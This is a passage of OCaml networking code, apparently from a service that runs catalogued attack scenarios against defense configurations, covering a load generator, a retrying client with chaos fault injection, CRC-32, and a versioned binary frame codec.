      | None -> ()
      | Some o ->
        if o.o_sheds >= retry_shed then begin
          incr resolved;
          acc.a_shed_final <- acc.a_shed_final + 1
        end
        else begin
          o.o_sheds <- o.o_sheds + 1;
          acc.a_shed_retried <- acc.a_shed_retried + 1;
          Unix.sleepf (float_of_int (max 1 sh_retry_after_ms) /. 1000.);
          Queue.add o resend
        end)
    | Frame.Reply_error { er_corr; er_message } -> (
      match pop er_corr with
      | Some _ ->
        incr resolved;
        classify_rejection acc er_message
      | None ->
        (* corr=0 or unknown: the server is tearing this connection down;
           the in-flight window will resurface via reconnect *)
        ())
    | Frame.Request _ | Frame.Ping _ | Frame.Pong _ | Frame.Stats_req _
    | Frame.Stats_rep _ ->
      ()
  in
  let progress () =
    Queue.length todo > 0 || Queue.length resend > 0 || Hashtbl.length live > 0
  in
  while progress () do
    if !conn = None then ignore (reconnect ());
    match !conn with
    | None -> () (* reconnect gave up and already resolved everything *)
    | Some c when !resolved >= rotate_every && Hashtbl.length live = 0 ->
      (* rotate: clean close, fresh connection and fault plan next turn *)
      Client.close c;
      conn := None;
      resolved := 0
    | Some c ->
      (* top up the window — unless a rotation is pending, in which case
         drain what is in flight first; a failed send drops the
         connection and breaks out so the next turn reconnects *)
      let filling = ref (!resolved < rotate_every) in
      while !filling && Hashtbl.length live < window do
        match next_out () with
        | None -> filling := false
        | Some o -> filling := send_one c o
      done;
      if Hashtbl.length live > 0 then begin
        match !conn with
        | None -> ()
        | Some c -> (
          match Client.recv_msg c with
          | Ok msg -> handle_reply msg
          | Error _ -> drop_conn ())
      end
  done;
  (match !conn with Some c -> Client.close c | None -> ());
  acc

(* -- merge + percentiles -------------------------------------------- *)

let percentile sorted p =
  let n = Array.length sorted in
  if n = 0 then 0.
  else sorted.(min (n - 1) (int_of_float (Float.of_int n *. p)))

let run ?(conns = 4) ?(window = 32) ?(retry_shed = 3) ?(chaos = false)
    ?(timeout_s = 10.) ?max_steps ?(distinct = 48) ?(sample_every = 0) ?targets
    ~host ~port ~n ~seed () =
  let specs = specs ~distinct ?max_steps ?targets ~seed () in
  let conns = max 1 (min conns n) in
  let indices =
    List.init conns (fun d ->
        List.init ((n - d + conns - 1) / conns) (fun k -> d + (k * conns)))
  in
  let t0 = Clock.now_ns () in
  let domains =
    List.mapi
      (fun d idx ->
        Domain.spawn
          (worker ~host ~port ~timeout_s ~window ~retry_shed ~chaos
             ~seed:((seed * 131) + d) ~sample_every ~specs ~indices:idx))
      indices
  in
  let accs = List.map Domain.join domains in
  let seconds = Clock.elapsed_s ~a:t0 ~b:(Clock.now_ns ()) in
  let total f = List.fold_left (fun a x -> a + f x) 0 accs in
  let lat =
    Array.concat (List.map (fun a -> Array.sub a.a_lat 0 a.a_lat_n) accs)
  in
  Array.sort compare lat;
  let rejected = Hashtbl.create 8 in
  let samples = Hashtbl.create 64 in
  let conflicts = ref (total (fun a -> a.a_conflicts)) in
  List.iter
    (fun a ->
      Hashtbl.iter
        (fun k v ->
          Hashtbl.replace rejected k
            (v + Option.value ~default:0 (Hashtbl.find_opt rejected k)))
        a.a_rejected;
      Hashtbl.iter
        (fun k s ->
          match Hashtbl.find_opt samples k with
          | None -> Hashtbl.add samples k s
          | Some prior -> if prior <> s then incr conflicts)
        a.a_samples)
    accs;
  let mean =
    if Array.length lat = 0 then 0.
    else Array.fold_left ( +. ) 0. lat /. float_of_int (Array.length lat)
  in
  {
    lg_n = n;
    lg_conns = conns;
    lg_served = total (fun a -> a.a_served);
    lg_shed_final = total (fun a -> a.a_shed_final);
    lg_shed_retried = total (fun a -> a.a_shed_retried);
    lg_rejected =
      Hashtbl.fold (fun k v l -> (k, v) :: l) rejected [] |> List.sort compare;
    lg_hung = total (fun a -> a.a_hung);
    lg_reconnects = total (fun a -> a.a_reconnects);
    lg_p50_us = percentile lat 0.50;
    lg_p99_us = percentile lat 0.99;
    lg_p999_us = percentile lat 0.999;
    lg_mean_us = mean;
    lg_seconds = seconds;
    lg_samples =
      Hashtbl.fold (fun k s l -> (k, s) :: l) samples [] |> List.sort compare;
    lg_sig_conflicts = !conflicts;
    lg_traced = total (fun a -> a.a_traced);
  }
