(** The protocol client: blocking sockets with receive timeouts, a
    retryable/terminal failure split, and seeded jittered exponential
    backoff in {!call}.

    A {!Pna_chaos.Chaos} engine can ride the send path: the engine's
    {!Pna_chaos.Chaos.on_send} script is executed against the real
    socket — partial writes with stalls between them, corrupted bytes,
    injected connection resets (SO_LINGER 0 abort, so the peer sees a
    hard RST, not a graceful FIN). That makes the client double as the
    fault-injection vehicle for the chaos-soak gate. *)

module Chaos = Pna_chaos.Chaos
module Metrics = Pna_telemetry.Metrics
module Trace = Pna_telemetry.Trace

(** Transport failures, classified for the retry loop. [Retryable]: the
    request may have been lost in flight and the service is memoized and
    deterministic, so re-sending is safe. [Terminal]: retrying cannot
    help (protocol breakdown, server-reported internal state). *)
type failure = Retryable of string | Terminal of string

let failure_label = function
  | Retryable m -> Fmt.str "retryable: %s" m
  | Terminal m -> Fmt.str "terminal: %s" m

(** What the server said, once transport succeeded. *)
type response =
  | Served of Frame.rep
  | Shed of int  (** retry-after hint, ms *)
  | Rejected of string  (** server-side [Reply_error] *)

exception Reset_injected

type t = {
  fd : Unix.file_descr;
  mutable rbuf : string;
  mutable alive : bool;
  chaos : Chaos.t option;
}

let retries_total =
  lazy (Metrics.counter Metrics.default "pna_net_client_retries_total")

let giveups_total =
  lazy (Metrics.counter Metrics.default "pna_net_client_giveups_total")

let connect ?(timeout_s = 10.) ?chaos ~host ~port () =
  (* a server that resets us mid-send must surface as EPIPE, not as a
     process-killing SIGPIPE — on this side of the wire too *)
  (try Sys.set_signal Sys.sigpipe Sys.Signal_ignore with Invalid_argument _ -> ());
  match
    let fd = Unix.socket ~cloexec:true Unix.PF_INET Unix.SOCK_STREAM 0 in
    (try
       Unix.connect fd (Unix.ADDR_INET (Unix.inet_addr_of_string host, port));
       (* the server disables Nagle on accepted sockets but that does
          nothing for this direction: a pipelined client issues many
          small writes, and an un-ACKed segment held by Nagle waits on
          the peer's *delayed* ACK — a multi-millisecond p99 tail on
          requests that are sub-millisecond at p50 *)
       (try Unix.setsockopt fd Unix.TCP_NODELAY true
        with Unix.Unix_error _ -> ());
       Unix.setsockopt_float fd Unix.SO_RCVTIMEO timeout_s;
       Unix.setsockopt_float fd Unix.SO_SNDTIMEO timeout_s
     with e ->
       (try Unix.close fd with Unix.Unix_error _ -> ());
       raise e);
    fd
  with
  | fd -> Ok { fd; rbuf = ""; alive = true; chaos }
  | exception Unix.Unix_error (e, _, _) ->
    Error (Retryable (Fmt.str "connect: %s" (Unix.error_message e)))

(* Abort with RST rather than FIN: SO_LINGER 0 + close. *)
let abort t =
  if t.alive then begin
    t.alive <- false;
    (try Unix.setsockopt_optint t.fd Unix.SO_LINGER (Some 0)
     with Unix.Unix_error _ -> ());
    try Unix.close t.fd with Unix.Unix_error _ -> ()
  end

let close t =
  if t.alive then begin
    t.alive <- false;
    try Unix.close t.fd with Unix.Unix_error _ -> ()
  end

let write_all fd s =
  let b = Bytes.unsafe_of_string s in
  let n = Bytes.length b in
  let off = ref 0 in
  while !off < n do
    off := !off + Unix.write fd b !off (n - !off)
  done

let send_raw t data =
  match t.chaos with
  | None -> write_all t.fd data
  | Some eng ->
    List.iter
      (function
        | Chaos.Send s -> write_all t.fd s
        | Chaos.Delay_ms ms -> Unix.sleepf (float_of_int ms /. 1000.)
        | Chaos.Reset ->
          abort t;
          raise Reset_injected)
      (Chaos.on_send eng data)

let send_msg t msg =
  if not t.alive then Error (Retryable "connection is closed")
  else
    match send_raw t (Frame.encode msg) with
    | () -> Ok ()
    | exception Reset_injected ->
      Error (Retryable "injected connection reset")
    | exception Unix.Unix_error (e, _, _) ->
      abort t;
      Error (Retryable (Fmt.str "send: %s" (Unix.error_message e)))

(* Read until one whole frame decodes. The receive timeout turns a hung
   or silent server into a classified Retryable, never a stuck client. *)
let recv_msg t =
  if not t.alive then Error (Retryable "connection is closed")
  else begin
    let result = ref None in
    let buf = Bytes.create 65536 in
    while !result = None do
      match Frame.decode t.rbuf with
      | Frame.Msg (msg, used) ->
        t.rbuf <- String.sub t.rbuf used (String.length t.rbuf - used);
        result := Some (Ok msg)
      | Frame.Fail e ->
        abort t;
        result :=
          Some (Error (Terminal (Fmt.str "protocol: %a" Frame.pp_error e)))
      | Frame.Need _ -> (
        match Unix.read t.fd buf 0 (Bytes.length buf) with
        | 0 ->
          close t;
          result := Some (Error (Retryable "server closed the connection"))
        | n -> t.rbuf <- t.rbuf ^ Bytes.sub_string buf 0 n
        | exception
            Unix.Unix_error ((Unix.EAGAIN | Unix.EWOULDBLOCK), _, _) ->
          abort t;
          result := Some (Error (Retryable "receive timeout"))
        | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
        | exception Unix.Unix_error (e, _, _) ->
          abort t;
          result :=
            Some (Error (Retryable (Fmt.str "recv: %s" (Unix.error_message e)))))
    done;
    Option.get !result
  end

(* One request/reply exchange on an open connection. Stray replies with
   a different correlation id (left over from a pipelined predecessor)
   are skipped, as are Pongs. *)
let request t (rq : Frame.req) =
  (* inside an ambient trace and not explicitly traced already: stamp
     the wire context so the server's spans link under the caller's *)
  let rq =
    match (rq.Frame.rq_trace, Trace.wire_ctx ()) with
    | None, Some wire -> { rq with Frame.rq_trace = Some wire }
    | _ -> rq
  in
  match send_msg t (Frame.Request rq) with
  | Error _ as e -> e
  | Ok () ->
    let rec await () =
      match recv_msg t with
      | Error _ as e -> e
      | Ok (Frame.Reply_ok rep) when rep.Frame.rp_corr = rq.Frame.rq_corr ->
        Ok (Served rep)
      | Ok (Frame.Reply_shed { sh_corr; sh_retry_after_ms })
        when sh_corr = rq.Frame.rq_corr ->
        Ok (Shed sh_retry_after_ms)
      | Ok (Frame.Reply_error { er_corr; er_message }) ->
        (* correlated or corr=0 (the server could not attribute it):
           either way this request is not getting an answer *)
        if er_corr = rq.Frame.rq_corr || er_corr = 0 then
          Ok (Rejected er_message)
        else await ()
      | Ok _ -> await ()
    in
    await ()

let ping t nonce =
  match send_msg t (Frame.Ping nonce) with
  | Error _ as e -> e
  | Ok () -> (
    let rec await () =
      match recv_msg t with
      | Error _ as e -> e
      | Ok (Frame.Pong n) when n = nonce -> Ok ()
      | Ok _ -> await ()
    in
    await ())

let stats t nonce =
  match send_msg t (Frame.Stats_req nonce) with
  | Error _ as e -> e
  | Ok () -> (
    let rec await () =
      match recv_msg t with
      | Error _ as e -> e
      | Ok (Frame.Stats_rep { st_nonce; st_payload }) when st_nonce = nonce ->
        Ok st_payload
      | Ok _ -> await ()
    in
    await ())

(* -- the retrying one-shot call -------------------------------------- *)

(* Jittered exponential backoff: base * 2^(attempt-1) plus up to
   [jitter_pct] percent, drawn from a caller-seeded SplitMix64 stream so
   tests replay. Sleeps are real (this side of the wire is wall-clock). *)
let backoff_ms ~rng ~base_ms ~jitter_pct attempt =
  let base = base_ms * (1 lsl min (attempt - 1) 16) in
  if jitter_pct <= 0 then base
  else base + Pna_rand.Rand.int rng (1 + (base * jitter_pct / 100))

let call ?(attempts = 4) ?(base_ms = 1) ?(jitter_pct = 50) ?(seed = 0)
    ?(timeout_s = 10.) ?chaos ~host ~port (rq : Frame.req) =
  let rng = Pna_rand.Rand.create (seed lxor 0xca11ba5e) in
  let rec go attempt =
    let retry reason =
      if attempt >= attempts then begin
        Metrics.incr (Lazy.force giveups_total);
        Error (Retryable reason)
      end
      else begin
        Metrics.incr (Lazy.force retries_total);
        Unix.sleepf
          (float_of_int (backoff_ms ~rng ~base_ms ~jitter_pct attempt)
          /. 1000.);
        go (attempt + 1)
      end
    in
    match connect ?chaos ~timeout_s ~host ~port () with
    | Error (Retryable m) -> retry m
    | Error (Terminal _ as f) -> Error f
    | Ok conn -> (
      let r = request conn rq in
      (match r with Ok _ -> close conn | Error _ -> ());
      match r with
      | Ok (Shed ms) ->
        if attempt >= attempts then begin
          Metrics.incr (Lazy.force giveups_total);
          Ok (Shed ms)
        end
        else begin
          Metrics.incr (Lazy.force retries_total);
          Unix.sleepf (float_of_int (max ms 1) /. 1000.);
          go (attempt + 1)
        end
      | Ok _ as ok -> ok
      | Error (Retryable m) -> retry m
      | Error (Terminal _ as f) -> Error f)
  in
  go 1
