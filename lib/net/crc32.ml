(** CRC-32 (IEEE 802.3, the zlib polynomial), table-driven.

    Digests chain: [string ~crc:(string part1) part2] equals the digest
    of the concatenation, so a frame header and payload can be checked
    without copying them into one buffer. *)

let poly = 0xedb88320

let table =
  lazy
    (Array.init 256 (fun n ->
         let c = ref n in
         for _ = 0 to 7 do
           c := if !c land 1 = 1 then poly lxor (!c lsr 1) else !c lsr 1
         done;
         !c))

(** [string ?crc ?off ?len s] — digest of the byte range, continuing from
    [crc] (default 0, a fresh digest). *)
let string ?(crc = 0) ?(off = 0) ?len s =
  let len = match len with Some l -> l | None -> String.length s - off in
  let t = Lazy.force table in
  let c = ref (crc lxor 0xffffffff) in
  for i = off to off + len - 1 do
    c := t.((!c lxor Char.code (String.unsafe_get s i)) land 0xff) lxor (!c lsr 8)
  done;
  !c lxor 0xffffffff
