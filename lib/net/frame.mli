(** The request/reply wire protocol: length-prefixed, CRC-framed,
    versioned binary frames.

    Layout (all integers little-endian, {!Pna_serial.Wire} idiom):

    {v
      +0   magic        u32   "PNA1"  (0x31414e50)
      +4   version      u8    (1)
      +5   kind         u8
      +6   reserved     u16
      +8   payload len  u32   (<= max_payload)
      +12  crc32        u32   (header bytes 0..11 + payload)
      +16  payload
    v}

    {!decode} never raises: every malformed input — wrong magic, alien
    version, unknown kind, inflated length, flipped bit, truncated or
    over-long payload — comes back as a classified {!error}. The length
    field is capped before the CRC check, so a corrupt length can never
    park the decoder waiting for bytes that will never arrive. *)

val magic : int
val version : int

val trace_version : int
(** Version 2: adds an optional trace context on requests (flags bit 8)
    and the {!msg.Stats_req}/{!msg.Stats_rep} frame pair. Frames that
    use neither are stamped {!version} and stay byte-identical to the
    v1 wire format, so old decoders keep working; v2-aware decoders
    accept both versions. *)

val header_len : int
val max_payload : int
val max_str : int

type req = {
  rq_corr : int;  (** u32 correlation id, echoed in the reply *)
  rq_attack : string;  (** catalogue scenario id *)
  rq_config : string;  (** defense configuration name *)
  rq_chaos_seed : int option;  (** run supervised under this plan seed *)
  rq_max_steps : int option;  (** deadline in interpreter steps *)
  rq_sanitize : bool;
  rq_engine : [ `Interp | `Bytecode ];
      (** execution engine for the job (flags bit 16 on the wire);
          frames without the bit decode as [`Interp], so pre-engine
          clients are unchanged *)
  rq_trace : (int * int) option;
      (** (trace id, parent span id) — links the server's spans under
          the caller's trace; [None] encodes as a version-1 frame *)
}

type rep = {
  rp_corr : int;
  rp_id : string;
  rp_config : string;
  rp_chaos_seed : int option;
  rp_status : string;
  rp_success : bool;
  rp_detail : string;
  rp_attempts : int;
  rp_cached : bool;
  rp_violations : int;
}

type msg =
  | Request of req
  | Reply_ok of rep
  | Reply_shed of { sh_corr : int; sh_retry_after_ms : int }
  | Reply_error of { er_corr : int; er_message : string }
      (** [er_corr] is 0 when the offending frame never parsed far
          enough to carry one *)
  | Ping of int
  | Pong of int
  | Stats_req of int
      (** nonce echoed in the reply; asks for a Prometheus snapshot *)
  | Stats_rep of { st_nonce : int; st_payload : string }
      (** Prometheus text exposition, truncated to {!max_str} bytes *)

type error =
  | Bad_magic of int
  | Bad_version of int
  | Bad_kind of int
  | Oversize of int
  | Bad_crc
  | Bad_payload of string

val error_class : error -> string
(** Stable label for metrics: ["magic"], ["version"], ["kind"],
    ["oversize"], ["crc"] or ["payload"]. *)

val pp_error : Format.formatter -> error -> unit

type progress =
  | Msg of msg * int  (** decoded message + bytes consumed *)
  | Need of int  (** at least this many more bytes *)
  | Fail of error

val encode : msg -> string
(** @raise Invalid_argument when a string field exceeds the u16 length
    prefix or the payload exceeds {!max_payload} — caller bugs, not wire
    conditions. *)

val decode : ?off:int -> string -> progress
(** Decode one frame starting at [off]. Never raises on any input. *)

(** {1 Service conversions} *)

val rep_of_reply : Pna_service.Service.reply -> rep
(** [rp_corr] is 0; the server stamps the request's correlation id. *)

val reply_of_rep : rep -> Pna_service.Service.reply

(** {1 Memo-log entry codec}

    The byte form of a {!Pna_service.Service.memo_entry} — what
    {!Memolog} wraps in its per-record (length, crc) envelope. *)

val encode_memo_entry : Pna_service.Service.memo_entry -> string
val decode_memo_entry : string -> (Pna_service.Service.memo_entry, string) result
