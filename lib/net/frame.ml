(** The request/reply wire protocol: length-prefixed, CRC-framed,
    versioned binary frames on the {!Pna_serial.Wire} little-endian
    idioms.

    {v
      +0   magic        u32   "PNA1" read as LE  (0x31414e50)
      +4   version      u8    (1)
      +5   kind         u8    (Request=1 .. Pong=6)
      +6   reserved     u16   (0 on encode, ignored on decode)
      +8   payload len  u32   (<= max_payload)
      +12  crc32        u32   (over header bytes 0..11 + payload)
      +16  payload
    v}

    The CRC covers the header's first 12 bytes and the whole payload, so
    any single corrupted bit — including in the length field itself — is
    a classified [Bad_crc], never a silent misparse. The length is
    range-checked {e before} the CRC so an inflated length cannot make
    the decoder wait forever for bytes that will never come: oversize
    frames fail immediately. Decoding never raises; every malformed
    input is a {!error}. *)

let magic = 0x31414e50 (* "PNA1" *)
let version = 1

(* Version 2 adds an optional trace context on requests (flags bit 8,
   two u64s) and the Stats frame pair (kinds 7/8). A frame is stamped
   v2 only when it actually uses a v2 feature, so untraced traffic is
   byte-identical to v1 and old decoders keep working. v2-aware
   decoders accept both. *)
let trace_version = 2
let header_len = 16
let max_payload = 65_536

(* string fields carry a u16 length prefix *)
let max_str = 0xffff

type req = {
  rq_corr : int;  (** u32 correlation id, echoed in the reply *)
  rq_attack : string;  (** catalogue scenario id *)
  rq_config : string;  (** defense configuration name *)
  rq_chaos_seed : int option;  (** run supervised under this plan seed *)
  rq_max_steps : int option;  (** deadline in interpreter steps *)
  rq_sanitize : bool;
  rq_engine : [ `Interp | `Bytecode ];
      (** flags bit 16 on the wire; frames without it decode as
          [`Interp], so pre-engine clients keep their old meaning *)
  rq_trace : (int * int) option;
      (** (trace id, parent span id) — links the server's spans under
          the caller's trace; [None] encodes as a version-1 frame *)
}

type rep = {
  rp_corr : int;
  rp_id : string;
  rp_config : string;
  rp_chaos_seed : int option;
  rp_status : string;
  rp_success : bool;
  rp_detail : string;
  rp_attempts : int;
  rp_cached : bool;
  rp_violations : int;
}

type msg =
  | Request of req
  | Reply_ok of rep
  | Reply_shed of { sh_corr : int; sh_retry_after_ms : int }
  | Reply_error of { er_corr : int; er_message : string }
      (** [er_corr] is 0 when the offending frame never parsed far enough
          to carry one *)
  | Ping of int
  | Pong of int
  | Stats_req of int
      (** nonce echoed in the reply; asks for a Prometheus snapshot *)
  | Stats_rep of { st_nonce : int; st_payload : string }
      (** Prometheus text exposition, truncated to {!max_str} bytes *)

type error =
  | Bad_magic of int
  | Bad_version of int
  | Bad_kind of int
  | Oversize of int
  | Bad_crc
  | Bad_payload of string

let error_class = function
  | Bad_magic _ -> "magic"
  | Bad_version _ -> "version"
  | Bad_kind _ -> "kind"
  | Oversize _ -> "oversize"
  | Bad_crc -> "crc"
  | Bad_payload _ -> "payload"

let pp_error ppf = function
  | Bad_magic m -> Fmt.pf ppf "bad magic 0x%08x" m
  | Bad_version v -> Fmt.pf ppf "unsupported version %d" v
  | Bad_kind k -> Fmt.pf ppf "unknown frame kind %d" k
  | Oversize n -> Fmt.pf ppf "payload length %d exceeds cap %d" n max_payload
  | Bad_crc -> Fmt.string ppf "crc mismatch"
  | Bad_payload msg -> Fmt.pf ppf "malformed payload: %s" msg

type progress =
  | Msg of msg * int  (** decoded message + bytes consumed *)
  | Need of int  (** at least this many more bytes *)
  | Fail of error

(* -- primitive writers --------------------------------------------- *)

let add_u8 b v = Buffer.add_char b (Char.chr (v land 0xff))

let add_u16 b v =
  add_u8 b v;
  add_u8 b (v lsr 8)

let add_u32 b v =
  add_u16 b v;
  add_u16 b (v lsr 16)

let add_u64 b v =
  (* OCaml ints are 63-bit; the high byte re-encodes the sign so that
     negative hashes round-trip *)
  let v64 = Int64.of_int v in
  for k = 0 to 7 do
    add_u8 b (Int64.to_int (Int64.shift_right_logical v64 (8 * k)) land 0xff)
  done

let add_str b s =
  if String.length s > max_str then
    Fmt.invalid_arg "Frame: string field of %d bytes exceeds %d"
      (String.length s) max_str;
  add_u16 b (String.length s);
  Buffer.add_string b s

(* -- primitive readers: a cursor over the payload ------------------- *)

exception Short of string

type cursor = { c_buf : string; c_end : int; mutable c_pos : int }

let take c n what =
  if c.c_pos + n > c.c_end then raise (Short what);
  let p = c.c_pos in
  c.c_pos <- p + n;
  p

let get_u8 c what = Char.code c.c_buf.[take c 1 what]

let get_u16 c what =
  let p = take c 2 what in
  Char.code c.c_buf.[p] lor (Char.code c.c_buf.[p + 1] lsl 8)

let get_u32 c what =
  let p = take c 4 what in
  Char.code c.c_buf.[p]
  lor (Char.code c.c_buf.[p + 1] lsl 8)
  lor (Char.code c.c_buf.[p + 2] lsl 16)
  lor (Char.code c.c_buf.[p + 3] lsl 24)

let get_u64 c what =
  let p = take c 8 what in
  let v = ref 0L in
  for k = 7 downto 0 do
    v := Int64.logor (Int64.shift_left !v 8)
        (Int64.of_int (Char.code c.c_buf.[p + k]))
  done;
  Int64.to_int !v

let get_str c what =
  let n = get_u16 c what in
  let p = take c n what in
  String.sub c.c_buf p n

(* -- message payloads ----------------------------------------------- *)

let kind_of = function
  | Request _ -> 1
  | Reply_ok _ -> 2
  | Reply_shed _ -> 3
  | Reply_error _ -> 4
  | Ping _ -> 5
  | Pong _ -> 6
  | Stats_req _ -> 7
  | Stats_rep _ -> 8

(* The version stamped on the wire: v1 unless the message uses a v2
   feature, so untraced frames stay byte-identical to the old format. *)
let version_of = function
  | Request { rq_trace = Some _; _ } | Stats_req _ | Stats_rep _ ->
    trace_version
  | _ -> version

let payload_of b = function
  | Request r ->
    add_u32 b r.rq_corr;
    add_str b r.rq_attack;
    add_str b r.rq_config;
    let flags =
      (if r.rq_chaos_seed <> None then 1 else 0)
      lor (if r.rq_max_steps <> None then 2 else 0)
      lor (if r.rq_sanitize then 4 else 0)
      lor (if r.rq_trace <> None then 8 else 0)
      lor if r.rq_engine = `Bytecode then 16 else 0
    in
    add_u8 b flags;
    Option.iter (add_u32 b) r.rq_chaos_seed;
    Option.iter (add_u32 b) r.rq_max_steps;
    Option.iter
      (fun (tid, parent) ->
        add_u64 b tid;
        add_u64 b parent)
      r.rq_trace
  | Reply_ok r ->
    add_u32 b r.rp_corr;
    add_str b r.rp_id;
    add_str b r.rp_config;
    let flags =
      (if r.rp_chaos_seed <> None then 1 else 0)
      lor (if r.rp_success then 2 else 0)
      lor if r.rp_cached then 4 else 0
    in
    add_u8 b flags;
    Option.iter (add_u32 b) r.rp_chaos_seed;
    add_str b r.rp_status;
    add_str b r.rp_detail;
    add_u16 b r.rp_attempts;
    add_u16 b r.rp_violations
  | Reply_shed s ->
    add_u32 b s.sh_corr;
    add_u16 b s.sh_retry_after_ms
  | Reply_error e ->
    add_u32 b e.er_corr;
    add_str b e.er_message
  | Ping n | Pong n -> add_u32 b n
  | Stats_req nonce -> add_u32 b nonce
  | Stats_rep s ->
    add_u32 b s.st_nonce;
    add_str b s.st_payload

let parse_payload kind c =
  match kind with
  | 1 ->
    let rq_corr = get_u32 c "corr" in
    let rq_attack = get_str c "attack id" in
    let rq_config = get_str c "config name" in
    let flags = get_u8 c "flags" in
    let rq_chaos_seed =
      if flags land 1 <> 0 then Some (get_u32 c "chaos seed") else None
    in
    let rq_max_steps =
      if flags land 2 <> 0 then Some (get_u32 c "max steps") else None
    in
    let rq_sanitize = flags land 4 <> 0 in
    let rq_trace =
      if flags land 8 <> 0 then
        let tid = get_u64 c "trace id" in
        let parent = get_u64 c "parent span" in
        Some (tid, parent)
      else None
    in
    Request
      {
        rq_corr;
        rq_attack;
        rq_config;
        rq_chaos_seed;
        rq_max_steps;
        rq_sanitize;
        rq_engine = (if flags land 16 <> 0 then `Bytecode else `Interp);
        rq_trace;
      }
  | 2 ->
    let rp_corr = get_u32 c "corr" in
    let rp_id = get_str c "id" in
    let rp_config = get_str c "config" in
    let flags = get_u8 c "flags" in
    let rp_chaos_seed =
      if flags land 1 <> 0 then Some (get_u32 c "chaos seed") else None
    in
    let rp_status = get_str c "status" in
    let rp_detail = get_str c "detail" in
    let rp_attempts = get_u16 c "attempts" in
    let rp_violations = get_u16 c "violations" in
    Reply_ok
      {
        rp_corr;
        rp_id;
        rp_config;
        rp_chaos_seed;
        rp_status;
        rp_success = flags land 2 <> 0;
        rp_detail;
        rp_attempts;
        rp_cached = flags land 4 <> 0;
        rp_violations;
      }
  | 3 ->
    let sh_corr = get_u32 c "corr" in
    let sh_retry_after_ms = get_u16 c "retry-after" in
    Reply_shed { sh_corr; sh_retry_after_ms }
  | 4 ->
    let er_corr = get_u32 c "corr" in
    let er_message = get_str c "message" in
    Reply_error { er_corr; er_message }
  | 5 -> Ping (get_u32 c "nonce")
  | 6 -> Pong (get_u32 c "nonce")
  | 7 -> Stats_req (get_u32 c "nonce")
  | 8 ->
    let st_nonce = get_u32 c "nonce" in
    let st_payload = get_str c "stats payload" in
    Stats_rep { st_nonce; st_payload }
  | _ -> assert false (* kind is validated before the payload parse *)

(* -- frame encode / decode ------------------------------------------ *)

let encode msg =
  let pb = Buffer.create 64 in
  payload_of pb msg;
  let payload = Buffer.contents pb in
  if String.length payload > max_payload then
    Fmt.invalid_arg "Frame.encode: payload of %d bytes exceeds %d"
      (String.length payload) max_payload;
  let h = Buffer.create (header_len + String.length payload) in
  add_u32 h magic;
  add_u8 h (version_of msg);
  add_u8 h (kind_of msg);
  add_u16 h 0;
  add_u32 h (String.length payload);
  let crc =
    Crc32.string ~crc:(Crc32.string ~len:12 (Buffer.contents h)) payload
  in
  add_u32 h crc;
  Buffer.add_string h payload;
  Buffer.contents h

let rd32 s off =
  Char.code s.[off]
  lor (Char.code s.[off + 1] lsl 8)
  lor (Char.code s.[off + 2] lsl 16)
  lor (Char.code s.[off + 3] lsl 24)

let decode ?(off = 0) buf =
  let avail = String.length buf - off in
  if avail < header_len then Need (header_len - avail)
  else
    let m = rd32 buf off in
    if m <> magic then Fail (Bad_magic m)
    else
      let v = Char.code buf.[off + 4] in
      if v < version || v > trace_version then Fail (Bad_version v)
      else
        let kind = Char.code buf.[off + 5] in
        if kind < 1 || kind > 8 then Fail (Bad_kind kind)
        else
          let plen = rd32 buf (off + 8) in
          if plen < 0 || plen > max_payload then Fail (Oversize plen)
          else if avail < header_len + plen then
            Need (header_len + plen - avail)
          else
            let expect = rd32 buf (off + 12) in
            let actual =
              Crc32.string
                ~crc:(Crc32.string ~off ~len:12 buf)
                ~off:(off + header_len) ~len:plen buf
            in
            if expect <> actual then Fail Bad_crc
            else
              let c =
                {
                  c_buf = buf;
                  c_end = off + header_len + plen;
                  c_pos = off + header_len;
                }
              in
              match parse_payload kind c with
              | msg ->
                if c.c_pos <> c.c_end then
                  Fail (Bad_payload "trailing bytes after message")
                else Msg (msg, header_len + plen)
              | exception Short what ->
                Fail (Bad_payload (Fmt.str "short field: %s" what))

(* -- conversions to the service layer -------------------------------- *)

module Service = Pna_service.Service

let rep_of_reply (r : Service.reply) =
  {
    rp_corr = 0;
    rp_id = r.Service.r_id;
    rp_config = r.Service.r_config;
    rp_chaos_seed = r.Service.r_chaos_seed;
    rp_status = r.Service.r_status;
    rp_success = r.Service.r_success;
    rp_detail = r.Service.r_detail;
    rp_attempts = r.Service.r_attempts;
    rp_cached = r.Service.r_cached;
    rp_violations = r.Service.r_violations;
  }

let reply_of_rep (r : rep) : Service.reply =
  {
    Service.r_id = r.rp_id;
    r_config = r.rp_config;
    r_chaos_seed = r.rp_chaos_seed;
    r_status = r.rp_status;
    r_success = r.rp_success;
    r_detail = r.rp_detail;
    r_attempts = r.rp_attempts;
    r_cached = r.rp_cached;
    r_violations = r.rp_violations;
  }

(* -- memo-log entry codec -------------------------------------------- *)

(* The on-disk memo record payload shares the frame primitives: the log
   layer wraps these bytes in its own (length, crc) envelope. *)
let encode_memo_entry (e : Service.memo_entry) =
  let b = Buffer.create 96 in
  add_str b e.Service.me_attack;
  add_str b e.Service.me_config;
  let r = e.Service.me_reply in
  let flags =
    (if e.Service.me_chaos_seed <> None then 1 else 0)
    lor (if e.Service.me_sanitize then 2 else 0)
    lor (if r.Service.r_success then 4 else 0)
    lor (if r.Service.r_cached then 8 else 0)
    lor if e.Service.me_engine = "bytecode" then 16 else 0
  in
  add_u8 b flags;
  Option.iter (add_u32 b) e.Service.me_chaos_seed;
  add_u64 b e.Service.me_input_hash;
  add_str b r.Service.r_status;
  add_str b r.Service.r_detail;
  add_u16 b r.Service.r_attempts;
  add_u16 b r.Service.r_violations;
  Buffer.contents b

let decode_memo_entry s : (Service.memo_entry, string) result =
  let c = { c_buf = s; c_end = String.length s; c_pos = 0 } in
  match
    let me_attack = get_str c "attack id" in
    let me_config = get_str c "config name" in
    let flags = get_u8 c "flags" in
    let me_chaos_seed =
      if flags land 1 <> 0 then Some (get_u32 c "chaos seed") else None
    in
    let me_input_hash = get_u64 c "input hash" in
    let r_status = get_str c "status" in
    let r_detail = get_str c "detail" in
    let r_attempts = get_u16 c "attempts" in
    let r_violations = get_u16 c "violations" in
    {
      Service.me_attack;
      me_config;
      me_chaos_seed;
      me_input_hash;
      me_sanitize = flags land 2 <> 0;
      (* pre-engine logs have the bit clear and decode as interpreter
         entries — exactly what produced them *)
      me_engine = (if flags land 16 <> 0 then "bytecode" else "interp");
      me_reply =
        {
          Service.r_id = me_attack;
          r_config = me_config;
          r_chaos_seed = me_chaos_seed;
          r_status;
          r_success = flags land 4 <> 0;
